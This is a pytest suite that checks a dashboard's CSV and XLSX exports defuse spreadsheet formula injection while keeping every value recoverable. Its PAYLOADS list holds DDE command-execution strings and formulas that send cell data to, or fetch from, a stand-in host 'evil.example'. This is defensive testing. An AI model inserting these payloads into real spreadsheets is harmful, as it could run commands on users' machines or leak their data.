"""What a spreadsheet would run is text in every file, and can be had back as it was."""

import csv
import zipfile
from collections.abc import Callable, Sequence
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from dashboard.exports import file_formats
from dashboard.exports.file_formats import csv_chunks, formula_safe

PAYLOADS = [
    "=1+1",
    "==1",
    "=A1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML("https://evil.example","//a")',
    '=IMAGE("https://evil.example/i.png")',
    "={1;2}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--5",
    "-",
    "@SUM(1+1)",
    "@A1",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   \t +1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=1+1";=2+2',
    "=1\r\n=2",
    "-5.5",
    "\t",
    "'=1",
    "''=1+1",
    "' =1+1",
    "'\t",
]
HARMLESS = [
    "Ada",
    "a=1",
    "5-a-side",
    "'quoted'",
    "'",
    "''",
    " '=1",
    "' '=1",
    "1.5",
    "",
    "é+e",
    "https://evil.example",
    "#REF!",
]
ALIVE = tuple("=+-@|%\t\r\n＝＋－＠")
BLANKS = " \ufeff" + "".join(map(chr, range(32)))

Table = list[list[object]]
File = Callable[[Path, Sequence[str], Sequence[Sequence[object]]], Table]


def as_csv(path: Path, columns: Sequence[str], rows: Sequence[Sequence[object]]) -> Table:
    """What a program reads of it; what stands unquoted is a number."""
    path.write_bytes(b"".join(csv_chunks(columns, rows)))
    with path.open(encoding="utf-8-sig", newline="") as lines:
        return [list(line) for line in csv.reader(lines, quoting=csv.QUOTE_NONNUMERIC)]


def as_xlsx(path: Path, columns: Sequence[str], rows: Sequence[Sequence[object]]) -> Table:
    file_formats.write(path, columns, rows)
    sheet = openpyxl.load_workbook(path).active
    return [
        [unescape(value) if isinstance(value, str) else value for value in row]
        for row in sheet.iter_rows(values_only=True)
    ]


FILES = {"csv": as_csv, "xlsx": as_xlsx}


def is_alive(value: object) -> bool:
    return isinstance(value, str) and value.lstrip(BLANKS).startswith(ALIVE)


def had_back(value: object) -> object:
    """The text before it was written: without one apostrophe where it would run without any."""
    if not isinstance(value, str) or not value.startswith("'"):
        return value
    bare = value.lstrip("'")
    return value[1:] if bare.startswith(ALIVE) or is_alive(bare) else value


@pytest.mark.parametrize("file", FILES.values(), ids=FILES)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_and_everything_can_be_had_back(
    tmp_path: Path, file: File, payload: str
) -> None:
    read = file(tmp_path / "file.xlsx", [payload, "n"], [[payload, -5.5], ["Ada", 3]])

    header, row, _ = read
    assert not any(is_alive(value) for line in read for value in line)
    assert had_back(header[0]) == payload
    assert had_back(row[0]) == payload
    assert row[1] == -5.5


@pytest.mark.parametrize("file", FILES.values(), ids=FILES)
def test_what_is_harmless_stays_as_it_is(tmp_path: Path, file: File) -> None:
    header, row = file(tmp_path / "file.xlsx", HARMLESS, [HARMLESS])

    assert header == row == HARMLESS
    assert [had_back(value) for value in row] == HARMLESS


@given(st.text(alphabet="'=+\t \ufeffa", max_size=6))
def test_no_two_texts_are_written_the_same(value: str) -> None:
    written = formula_safe(value)

    assert not is_alive(written)
    assert had_back(written) == value


@pytest.mark.parametrize("file", FILES.values(), ids=FILES)
def test_numbers_stay_numbers_whatever_their_sign(tmp_path: Path, file: File) -> None:
    numbers = [-5.5, Decimal("-0.01"), -3, 0, 7, np.float64(-1.25), np.int64(-8)]

    _, row = file(tmp_path / "file.xlsx", [f"n{index}" for index in range(len(numbers))], [numbers])

    assert [float(str(value or 0)) for value in row] == [float(str(number)) for number in numbers]
    assert not any(isinstance(value, str) and value for value in row)


def test_a_sheet_has_no_formula_and_no_link_in_its_parts(tmp_path: Path) -> None:
    path = tmp_path / "file.xlsx"
    texts = [*PAYLOADS, *HARMLESS, "mailto:evil@evil.example", "internal:Sheet1!A1", "file://evil"]

    file_formats.write(path, texts, [texts], about=[(one, one) for one in texts])

    with zipfile.ZipFile(path) as parts:
        names = parts.namelist()
        found = [
            tag.rpartition("}")[2]
            for name in names
            if name.endswith((".xml", ".rels"))
            for tag in (part.tag for part in ElementTree.fromstring(parts.read(name)).iter())
        ]
        related = "".join(parts.read(name).decode() for name in names if name.endswith(".rels"))
    assert found.count("c") > 2 * len(texts)
    assert not {"f", "hyperlink", "hyperlinks", "externalLink", "ddeLink"} & set(found)
    assert "External" not in related
